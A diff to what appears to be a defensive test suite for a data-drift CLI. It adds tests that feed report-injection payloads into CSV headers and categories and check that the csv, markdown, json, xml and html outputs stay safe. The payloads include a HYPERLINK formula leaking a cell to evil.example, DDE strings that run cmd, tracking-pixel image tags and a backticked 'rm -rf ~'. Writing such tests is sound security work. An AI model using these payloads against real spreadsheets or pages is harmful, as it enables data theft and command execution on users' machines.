@@ -488,6 +488,9 @@ class Run:
     xml: tuple[str, ...] = ()  # outputs that must be well-formed XML
     not_in: tuple[tuple[str, str], ...] = ()  # (output, text it must not contain raw)
     process: bool = False  # run in a child process (memory and time bombs)
+    # (output or "-" for stdout, kind): reports that must be safe in a spreadsheet, a
+    # rendered page or a strict parser (csv, markdown, html, json, xml, profile).
+    reports: tuple[tuple[str, str], ...] = ()
 
 
 @dataclass(frozen=True)
@@ -1173,6 +1176,155 @@ def _fault_attacks() -> list[Attack]:
     return out
 
 
+# --- round 3: what data can do to a report, and names that are not UTF-8 --------------
+
+#: Text that a spreadsheet runs, a Markdown renderer fetches or a browser loads.
+REPORT_PAYLOADS = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "dde": "+cmd|' /C calc'!A0",
+    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "fullwidth": "\uff1d1+1",
+    "img": '<img src="http://evil.example/pixel.png">',
+    "md-image": "![x](http://evil.example/pixel.png)",
+    "md-link": "[click](https://evil.example/)",
+    "css-url": "url(http://evil.example/x.png)",
+    "code": "`rm -rf ~`",
+    "pipe": "a|b",
+    "bare-url": "see https://evil.example/p.png",
+}
+#: Category values that look like formulas but are numbers: they must stay numbers.
+NUMBERS_AS_TEXT = ["-0.5", "-inf", "+1e3"]
+
+
+def payload_tables(d: Path, folder: str = "") -> tuple[str, str]:
+    """A reference and a current CSV whose column names are the payloads (numbers in
+    them) and whose ``device`` column takes the payloads as categories (new ones in the
+    current table, so they are named in every report)."""
+    import csv
+
+    names = list(REPORT_PAYLOADS.values())
+    values = names + NUMBERS_AS_TEXT
+    paths = []
+    for side, rows in (("ref", 60), ("cur", 60)):
+        base = d / folder if folder else d
+        base.mkdir(exist_ok=True)
+        path = base / f"{side}.csv"
+        with open(path, "w", newline="", encoding="utf-8") as f:
+            w = csv.writer(f)
+            w.writerow(["id", "device", *names])
+            for i in range(rows):
+                # Half the categories only in the current table: new categories.
+                pool = values[: len(values) // 2] if side == "ref" else values
+                w.writerow([i, pool[i % len(pool)], *[(i * 7 + j) % 11 for j in range(len(names))]])
+        paths.append(str(path))
+    return paths[0], paths[1]
+
+
+def _report_attacks() -> list[Attack]:
+    out = []
+    for fmt in ("csv", "markdown", "json"):
+
+        def drift_stdout(d: Path, fmt: str = fmt) -> Run:
+            return Run(["drift", *payload_tables(d), "-f", fmt, "-q"], 1, reports=(("-", fmt),))
+
+        out.append(Attack(f"report-drift-{fmt}", drift_stdout))
+
+    def inspect_names(fmt: str):
+        def build(d: Path) -> Run:
+            path = table_csv(d, "names.csv", list(REPORT_PAYLOADS.values()))
+            return Run(["inspect", path, "-f", fmt], 0, reports=(("-", fmt),))
+
+        return build
+
+    out += [Attack(f"report-inspect-{fmt}", inspect_names(fmt)) for fmt in ("csv", "markdown")]
+
+    def drift_files(d: Path) -> Run:
+        o, j, h = str(d / "r.csv"), str(d / "r.xml"), str(d / "r.html")
+        argv = ["drift", *payload_tables(d, "in"), "-o", o, "--junit", j, "--html", h, "-q"]
+        reports = ((o, "csv"), (j, "xml"), (h, "html"))
+        return Run(argv, 1, outputs=(o, j, h), reports=reports)
+
+    out.append(Attack("report-drift-files", drift_files))
+
+    def through_profile(fmt: str):
+        def build(d: Path) -> Run:
+            from kldiv_cli.cli.app import run
+
+            ref, cur = payload_tables(d, "in")
+            profile = str(d / "ref.profile.json")
+            assert run(["profile", ref, "-o", profile, "-q"]) == 0
+            return Run(["drift", profile, cur, "-f", fmt, "-q"], 1, reports=(("-", fmt),))
+
+        return build
+
+    out += [Attack(f"report-profile-{f}", through_profile(f)) for f in ("csv", "markdown")]
+
+    def profile_html(d: Path) -> Run:
+        from kldiv_cli.cli.app import run
+
+        ref, cur = payload_tables(d, "in")
+        profile = str(d / "ref.profile.json")
+        assert run(["profile", ref, "-o", profile, "-q"]) == 0
+        h, j = str(d / "p.html"), str(d / "p.json")
+        argv = ["drift", profile, cur, "--html", h, "-o", j, "-q"]
+        return Run(argv, 1, outputs=(h, j), reports=((h, "html"), (j, "json")))
+
+    out.append(Attack("report-profile-html", profile_html))
+
+    # Names that are not UTF-8: a folder and files whose bytes Python carries as lone
+    # surrogates. Every report still valid Unicode, every message one line.
+    def non_utf8(kind: str):
+        def build(d: Path) -> Run:
+            folder = os.fsdecode(os.fsencode(str(d)) + b"/data\xff")
+            os.mkdir(folder)
+            ref = os.fsdecode(os.fsencode(folder) + b"/ref\xfe.parquet")
+            cur = os.fsdecode(os.fsencode(folder) + b"/cur\xfe.csv")
+            x = os.fsdecode(os.fsencode(folder) + b"/x\xfe.npy")
+            a, b = [float(i % 7) for i in range(40)], [f"c{i % 3}" for i in range(40)]
+            with open(ref, "wb") as f:  # pyarrow cannot encode the name itself
+                pq.write_table(pa.table({"a": a, "b": b}), f)
+            with open(cur, "w") as f:  # drifted: shifted numbers, a new category
+                f.write("a,b\n" + "".join(f"{v + 3},c{i % 4}\n" for i, v in enumerate(a)))
+            np.save(x, _probs()[0])
+            if kind == "json":
+                return Run(["drift", ref, cur, "-f", "json", "-q"], 1, reports=(("-", "json"),))
+            if kind == "folder-json":
+                return Run(["drift", folder, cur, "-f", "json", "-q"], 1, reports=(("-", "json"),))
+            if kind == "files":
+                j, h = str(d / "j.xml"), str(d / "h.html")
+                argv = ["drift", ref, cur, "--junit", j, "--html", h, "-q"]
+                return Run(argv, 1, outputs=(j, h), reports=((j, "xml"), (h, "html")))
+            if kind == "profile":
+                return Run(["profile", ref], 0, reports=(("-", "json"),))
+            if kind == "profile-file":
+                p = os.fsdecode(os.fsencode(folder) + b"/p\xfd.json")
+                return Run(["profile", ref, "-o", p, "-q"], 0, outputs=(p,), reports=((p, "json"),))
+            if kind == "inspect":
+                return Run(["inspect", x, "-f", "json"], 0, reports=(("-", "json"),))
+            if kind == "compute":
+                return Run(["compute", x, x, "-f", "json", "-q"], 0, reports=(("-", "json"),))
+            # A missing file under the odd folder: one line, the byte shown as \xff.
+            return Run(["inspect", folder + "/gone.npy"], 2, r"data\\xff/gone\.npy: ")
+
+        return build
+
+    kinds = (
+        "json",
+        "folder-json",
+        "files",
+        "profile",
+        "profile-file",
+        "inspect",
+        "compute",
+        "missing",
+    )
+    out += [Attack(f"report-non-utf8-{k}", non_utf8(k)) for k in kinds]
+    return out
+
+
 ATTACKS: list[Attack] = [
     *_loss_attacks(),
     *_kept_attacks(),
@@ -1181,6 +1333,7 @@ ATTACKS: list[Attack] = [
     *_injection_attacks(),
     *_option_attacks(),
     *_fault_attacks(),
+    *_report_attacks(),
 ]
 
 
